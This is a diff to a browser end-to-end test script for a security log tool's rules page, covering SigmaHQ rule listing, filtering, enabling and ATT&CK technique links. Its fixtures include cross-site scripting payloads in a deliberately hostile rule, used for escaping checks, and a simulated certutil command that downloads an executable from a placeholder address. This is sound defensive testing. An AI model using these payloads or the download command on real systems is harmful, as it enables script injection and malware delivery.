@@ -7,8 +7,10 @@
 // "not ok - ..."; the last line is "e2e: N passed, N failed"; the exit code
 // is 0 only when every step passed. Screenshots go to <artifact-dir>.
 
-import { mkdirSync } from 'node:fs';
-import { join } from 'node:path';
+import { execFileSync } from 'node:child_process';
+import { existsSync, mkdirSync } from 'node:fs';
+import { dirname, join } from 'node:path';
+import { fileURLToPath } from 'node:url';
 import { chromium } from 'playwright-core';
 
 const [base, password, artifacts] = process.argv.slice(2);
@@ -374,6 +376,263 @@ await step('a shared summary URL opens the summary', async () => {
   await page.waitForURL(/open=/);
   await page.waitForSelector('.drawer .facts');
   check((await page.locator('.drawer-key').innerText()) === summaryKey, 'wrong summary opened');
+});
+
+// ---- rules page, Sigma rules and ATT&CK (issue 41) ----------------------------------
+
+// SigmaHQ's rules are read in place from ../shared/sigma (DRL 1.1), never copied into the repository.
+const SIGMA_ARCHIVE = join(dirname(fileURLToPath(import.meta.url)), '..', '..', '..', 'shared', 'sigma', 'sigmahq-8eaafff.tar.gz');
+const SIGMA_RULES = [
+  'proc_creation_win_certutil_download.yml', // medium, test: fires on the Sysmon event below
+  'proc_creation_win_bcdedit_boot_conf_tamper.yml', // high, stable
+  'proc_creation_win_cmd_sticky_key_like_backdoor_execution.yml', // critical, test
+  'proc_creation_win_clip_execution.yml', // low, test
+].map((name) => `rules/windows/process_creation/${name}`);
+
+/** A Sigma rule's own words: what the page must show (single-line values and lists, as SigmaHQ writes them). */
+function sigmaFacts(text) {
+  const one = (key) => (text.match(new RegExp(`^${key}: (.*)$`, 'm')) || [])[1];
+  const many = (key) => {
+    const block = text.match(new RegExp(`^${key}:\\n((?: {4}- .*\\n)+)`, 'm'));
+    return block ? block[1].trimEnd().split('\n').map((l) => l.replace(/^ {4}- /, '').replace(/^'(.*)'$/, '$1')) : [];
+  };
+  const tags = many('tags');
+  return {
+    text, id: one('id'), title: one('title'), description: one('description'), level: one('level'), status: one('status'),
+    references: many('references'), falsePositives: many('falsepositives'), author: one('author'),
+    techniques: tags.filter((t) => /^attack\.t\d{4}/.test(t)).map((t) => t.slice('attack.'.length).toUpperCase()),
+  };
+}
+
+let sigma = null; // the rules added, or null when ../shared/sigma is absent
+const sigmaSkip = () => {
+  if (sigma) return false;
+  console.log(`  # skipped: SigmaHQ's archive is not at ${SIGMA_ARCHIVE} (shared/ beside the project)`);
+  return true;
+};
+const ruleRow = (id) => page.locator(`table.rules tr.hit[data-id="${id}"]`);
+async function rulesShown() {
+  await page.waitForSelector('.page-rules .results:not(.stale):not([aria-busy]) table.rules, .page-rules .results:not([aria-busy]) .empty-results');
+}
+async function dao(kargs) {
+  return api('ds/eventwatch_bucket_dao', kargs, adminToken);
+}
+const enabledOf = async () => Object.fromEntries((await dao({ action: 'list' })).buckets.map((b) => [b.name, b.enabled]));
+
+// Our own rule with markup in every text it shows: it must stay text.
+const HOSTILE_ID = 'c0ffee00-0bad-4bad-8bad-0000e2e0e2e0';
+const HOSTILE = `title: <img src=x onerror="window.__pwned=7"> hostile rule
+id: ${HOSTILE_ID}
+status: experimental
+description: <script>window.__pwned=8</script> described & "quoted"
+references:
+    - javascript:window.__pwned=9
+    - https://example.org/?q=<b>bold</b>
+author: <b id="pwned-author">evil</b>
+tags:
+    - attack.t1059.001
+logsource:
+    product: windows
+    category: process_creation
+detection:
+    selection:
+        Image|endswith: '\\\\hostile-e2e.exe'
+    condition: selection
+falsepositives:
+    - <svg onload="window.__pwned=10">
+level: informational
+`;
+
+await step('rules: Sigma rules added through the API are listed with level, status and ATT&CK techniques', async () => {
+  await dao({ action: 'add', sigma: HOSTILE });
+  if (existsSync(SIGMA_ARCHIVE)) {
+    const texts = SIGMA_RULES.map((path) => execFileSync('tar', ['-xzOf', SIGMA_ARCHIVE, `sigmahq-8eaafff/${path}`], { encoding: 'utf8' }));
+    sigma = texts.map(sigmaFacts);
+    for (const rule of sigma) await dao({ action: 'add', sigma: rule.text });
+  }
+  await page.click('.main-nav a[href="/rules"]');
+  await page.waitForURL(/\/rules/);
+  await rulesShown();
+  check(await page.locator('.main-nav a[href="/rules"][aria-current="page"]').count() === 1, 'Rules not marked as the current page');
+  await page.click('.segment[data-source="sigma"]');
+  await page.waitForURL((u) => u.searchParams.get('source') === 'sigma');
+  await rulesShown();
+  const ids = await page.locator('table.rules tr.hit').evaluateAll((rows) => rows.map((r) => r.dataset.id));
+  const expected = [HOSTILE_ID, ...(sigma || []).map((r) => r.id)];
+  check(ids.length === expected.length && expected.every((id) => ids.includes(id)), `Sigma rules listed: ${ids}`);
+  check(await hitCount() === expected.length, `total ${await hitCount()}`);
+  for (const rule of sigma || []) {
+    const row = ruleRow(rule.id);
+    check((await row.locator('.cell-rule-title strong').textContent()) === rule.title, `title of ${rule.id}`);
+    const level = await row.locator('.rule-level').textContent();
+    check(level.startsWith(rule.level), `level of ${rule.id}: ${level}, not ${rule.level}`);
+    check((await row.locator('.rule-status').textContent()) === rule.status, `status of ${rule.id}`);
+    const techniques = await row.locator('a.technique').allTextContents();
+    check(JSON.stringify(techniques) === JSON.stringify(rule.techniques), `techniques of ${rule.id}: ${techniques}, not ${rule.techniques}`);
+    check((await row.locator('.rule-source').textContent()) === 'Sigma', `source of ${rule.id}`);
+  }
+  // Riskiest first: critical before high before medium before low.
+  const scores = await page.locator('table.rules .rule-level .level-score').allTextContents();
+  check(scores.map(Number).every((s, i, a) => i === 0 || a[i - 1] >= s), `not riskiest first: ${scores}`);
+  await shot('32-rules');
+});
+
+await step('rules: filter by level, status and source', async () => {
+  if (sigmaSkip()) return;
+  const byLevel = async (level) => {
+    await page.locator(`.facet[data-field="level"] .facet-in:has(.facet-key:text-is("${level}"))`).click();
+    await page.waitForURL((u) => u.searchParams.getAll('f').includes(`+level:${level}`));
+    await rulesShown();
+  };
+  await byLevel('critical');
+  const critical = sigma.filter((r) => r.level === 'critical').map((r) => r.id);
+  let ids = await page.locator('table.rules tr.hit').evaluateAll((rows) => rows.map((r) => r.dataset.id));
+  check(JSON.stringify(ids) === JSON.stringify(critical), `critical: ${ids}`);
+  await page.locator('.chip .chip-remove').click();
+  await page.waitForURL((u) => !u.searchParams.getAll('f').length);
+  await rulesShown();
+  await page.locator('.facet[data-field="status"] .facet-in:has(.facet-key:text-is("stable"))').click();
+  await page.waitForURL((u) => u.searchParams.getAll('f').includes('+status:stable'));
+  await rulesShown();
+  ids = await page.locator('table.rules tr.hit').evaluateAll((rows) => rows.map((r) => r.dataset.id));
+  const stable = sigma.filter((r) => r.status === 'stable').map((r) => r.id);
+  check(JSON.stringify(ids) === JSON.stringify(stable), `stable: ${ids}`);
+  await shot('33-rules-filtered');
+  // seclake's own rules: the starter pack, none of them Sigma.
+  await page.locator('.chip .chip-remove').click();
+  await page.waitForURL((u) => !u.searchParams.getAll('f').length);
+  await page.click('.segment[data-source="seclake"]');
+  await page.waitForURL((u) => u.searchParams.get('source') === 'seclake');
+  await rulesShown();
+  const own = (await dao({ action: 'list' })).buckets.filter((b) => !b.sigmaId).length;
+  check(own > 0 && await hitCount() === own, `seclake rules shown ${await hitCount()}, the API has ${own}`);
+  const sources = await page.locator('table.rules .rule-source').allTextContents();
+  check(sources.every((s) => s === 'seclake'), `sources ${sources}`);
+  // A query within a source keeps its errors' positions in what the user wrote.
+  await page.fill('#query', 'level:(high OR ');
+  await page.press('#query', 'Enter');
+  await page.waitForSelector('.query-error:not([hidden]) .query-caret');
+  check(/at position 15/.test(await page.locator('.query-error').innerText()), await page.locator('.query-error').innerText());
+});
+
+await step('rules: disable the selected ones, then all matching, then enable all matching', async () => {
+  if (sigmaSkip()) return;
+  await page.goto(`${base}/rules?source=sigma`);
+  await rulesShown();
+  const [first, second] = sigma.map((r) => r.id);
+  await ruleRow(first).locator('input.select-rule').check();
+  await ruleRow(second).locator('input.select-rule').check();
+  check((await page.locator('#selected-count').textContent()) === '2 selected', 'selection not counted');
+  await page.click('#disable-selected');
+  await page.waitForSelector('.rules-message .notice.ok');
+  await rulesShown();
+  await page.waitForSelector(`table.rules tr.hit.disabled[data-id="${first}"]`);
+  let state = await enabledOf();
+  check(state[first] === false && state[second] === false, 'the selected rules are still enabled');
+  check(sigma.slice(2).every((r) => state[r.id] === true) && state[HOSTILE_ID] === true, 'other rules were disabled');
+  await shot('34-rules-disabled');
+  // Every Sigma rule: the 3 still enabled change, the 2 disabled stay.
+  await page.click('#disable-matching');
+  await page.waitForSelector('dialog[open]');
+  check(/5 rules/.test(await page.locator('dialog[open]').innerText()), 'the dialog does not say how many');
+  await page.click('dialog[open] button[value=ok]');
+  await page.waitForSelector('.rules-message .notice.ok >> text=3 rules disabled.');
+  state = await enabledOf();
+  const sigmaIds = [HOSTILE_ID, ...sigma.map((r) => r.id)];
+  check(sigmaIds.every((id) => state[id] === false), 'not every Sigma rule was disabled');
+  check(Object.entries(state).filter(([id]) => !sigmaIds.includes(id)).every(([, on]) => on), 'a seclake rule was disabled');
+  await rulesShown();
+  check(await page.locator('table.rules tr.hit:not(.disabled)').count() === 0, 'a row is not shown disabled');
+  await page.click('#enable-matching');
+  await page.click('dialog[open] button[value=ok]');
+  await page.waitForSelector('.rules-message .notice.ok >> text=5 rules enabled.');
+  state = await enabledOf();
+  check(Object.values(state).every((on) => on), 'a rule is still disabled');
+});
+
+await step('rules: open one: description, author, references, false positives, its Sigma text', async () => {
+  if (sigmaSkip()) return;
+  const rule = sigma[0];
+  await page.goto(`${base}/rules?source=sigma`);
+  await rulesShown();
+  await ruleRow(rule.id).locator('button.expand').click();
+  const detail = page.locator('tr.detail:not([hidden]) .rule-detail');
+  await detail.waitFor();
+  check((await detail.locator('.rule-description').textContent()) === rule.description, 'description');
+  const refs = await detail.locator('ul.references a').evaluateAll((as) => as.map((a) => [a.textContent, a.getAttribute('href'), a.rel]));
+  check(refs.length === rule.references.length && refs.every(([text, href, rel], i) => text === rule.references[i] && href === rule.references[i] && /noopener/.test(rel)),
+    `references ${JSON.stringify(refs)}`);
+  check(JSON.stringify(await detail.locator('ul.false-positives li').allTextContents()) === JSON.stringify(rule.falsePositives), 'false positives');
+  check((await detail.locator('dd').allTextContents()).includes(rule.author), 'author');
+  check((await detail.locator('details.rule-text pre').textContent()) === rule.text, 'the Sigma text');
+  await shot('35-rule-opened');
+});
+
+await step("rules: a hostile rule's texts are shown as text, its odd reference is no link", async () => {
+  await page.goto(`${base}/rules?q=${encodeURIComponent(`name:"${HOSTILE_ID}"`)}`);
+  await page.waitForSelector('tr.detail:not([hidden]) .rule-detail'); // one rule found: shown opened
+  check(await page.evaluate(() => window.__pwned) === undefined, 'hostile script ran');
+  check(await page.locator('#pwned-author, .results img, .results script, .results svg').count() === 0, 'hostile markup became elements');
+  check((await ruleRow(HOSTILE_ID).locator('.cell-rule-title strong').textContent()).startsWith('<img src=x'), 'title not shown as text');
+  const hrefs = await page.locator('.rule-detail ul.references a').evaluateAll((as) => as.map((a) => a.getAttribute('href')));
+  check(hrefs.length === 1 && hrefs[0].startsWith('https://example.org/'), `links ${hrefs}`);
+  check((await page.locator('.rule-detail ul.references').textContent()).includes('javascript:window.__pwned=9'), 'the odd reference is not shown');
+  check((await page.locator('.rule-detail .rule-description').textContent()).includes('<script>'), 'description not literal');
+});
+
+await step('timeline and summaries: ATT&CK technique ids lead to their behaviors', async () => {
+  if (sigmaSkip()) return;
+  const rule = sigma[0]; // certutil downloading a file: a Sysmon process start as NXLog sends it
+  const when = new Date(Date.now() - 120_000).toISOString();
+  const event = {
+    EventTime: when.slice(0, 19).replace('T', ' '), Hostname: 'WS-E2E.corp.local', Keywords: '0x8000000000000000', EventType: 'INFO',
+    SeverityValue: 2, Severity: 'INFO', EventID: 1, SourceName: 'Microsoft-Windows-Sysmon', ProviderGuid: '{5770385F-C22A-43E0-BF4C-06F5698FFBD9}',
+    Version: 5, Task: 1, OpcodeValue: 0, RecordNumber: 4711, ProcessID: 3544, ThreadID: 4272, Channel: 'Microsoft-Windows-Sysmon/Operational',
+    Domain: 'NT AUTHORITY', AccountName: 'SYSTEM', UserID: 'S-1-5-18', AccountType: 'User', Opcode: 'Info', RuleName: '-',
+    UtcTime: when.slice(0, 23).replace('T', ' '), ProcessGuid: '{0197231E-005A-6928-A50B-000000000D00}', ProcessId: '4460',
+    Image: 'C:\\Windows\\System32\\certutil.exe', FileVersion: '10.0.19041.1 (WinBuild.160101.0800)', Description: 'CertUtil.exe',
+    Product: 'Microsoft® Windows® Operating System', Company: 'Microsoft Corporation', OriginalFileName: 'CertUtil.exe',
+    CommandLine: 'certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\\Users\\Public\\a.exe', CurrentDirectory: 'C:\\Users\\jdoe\\',
+    User: 'CORP\\jdoe', LogonGuid: '{0197231E-0058-6928-E703-000000000000}', LogonId: '0x3e7', TerminalSessionId: '0', IntegrityLevel: 'Medium',
+    Hashes: 'SHA256=0A1B2C3D4E5F60718293A4B5C6D7E8F90A1B2C3D4E5F60718293A4B5C6D7E8F9', ParentProcessGuid: '{0197231E-0059-6928-A40B-000000000D00}',
+    ParentProcessId: '3120', ParentImage: 'C:\\Windows\\System32\\cmd.exe', ParentCommandLine: 'cmd.exe', ParentUser: 'CORP\\jdoe',
+    EventReceivedTime: when.slice(0, 19).replace('T', ' '), SourceModuleName: 'eventlog', SourceModuleType: 'im_msvistalog',
+  };
+  const r = await fetch(`${origin}/api/import/nxlog?format=jsonl`, { method: 'POST', headers: { Servicetoken: adminToken }, body: JSON.stringify(event) });
+  check(r.ok && (await r.json()).verdict === 'OK', `import ${r.status}`);
+  await page.goto(`${base}/timeline?${new URLSearchParams({ from: 'now-24h', to: 'now', f: `+behaviorRule:${rule.id}` })}`);
+  await page.waitForFunction(() => document.querySelector('table.hits tr.hit') || document.querySelector('.empty-results'));
+  for (let i = 0; i < 50 && await page.locator('table.hits tr.hit').count() === 0; i++) { // the behavior is searchable within moments
+    await page.waitForTimeout(200);
+    await page.reload();
+    await searched();
+  }
+  await searched();
+  const row = page.locator('table.hits tr.hit').first();
+  check(JSON.stringify(await row.locator('a.technique').allTextContents()) === JSON.stringify(rule.techniques), 'techniques of the behavior');
+  const technique = rule.techniques[rule.techniques.length - 1];
+  await row.locator(`a.technique:text-is("${technique}")`).click();
+  await page.waitForURL((u) => u.searchParams.getAll('f').includes(`+risks:${technique}`) && u.searchParams.getAll('f').includes(`+behaviorRule:${rule.id}`));
+  await searched();
+  check(await page.locator('table.hits tr.hit').count() > 0, 'no behaviors of the technique');
+  for (const techniques of await page.locator('table.hits tr.hit .cell-techniques').allTextContents()) check(techniques.includes(technique), techniques);
+  await shot('36-timeline-attack');
+  // The behavior's rule opens on the rules page.
+  await page.locator('table.hits tr.hit').first().locator('a.rule-link').click();
+  await page.waitForURL(/\/rules\?q=name/);
+  await page.waitForSelector('tr.detail:not([hidden]) .rule-detail');
+  check((await page.locator('.rule-detail .rule-description').textContent()) === rule.description, 'the rule did not open');
+  // Summaries: the day of the host lists the techniques, each leading to its behaviors of that day.
+  await page.goto(`${base}/summaries?${new URLSearchParams({ q: 'key:"WS-E2E.corp.local"', from: 'now-7d', to: 'now' })}`);
+  await searched();
+  const cell = page.locator('table.summaries tbody tr').first().locator('.cell-techniques');
+  const shown = await cell.locator('a.technique').allTextContents();
+  check(rule.techniques.every((t) => shown.includes(t)), `summary techniques ${shown}`);
+  await cell.locator(`a.technique:text-is("${technique}")`).click();
+  await page.waitForURL((u) => u.pathname === '/timeline' && u.searchParams.getAll('f').includes(`+risks:${technique}`) && /WS-E2E/.test(u.searchParams.get('q')));
+  await searched();
+  check(await page.locator('table.hits tr.hit').count() > 0, 'the summary technique leads to no behaviors');
+  await shot('37-summary-attack');
 });
 
 await step('admin: users (add, disable, roles, delete)', async () => {
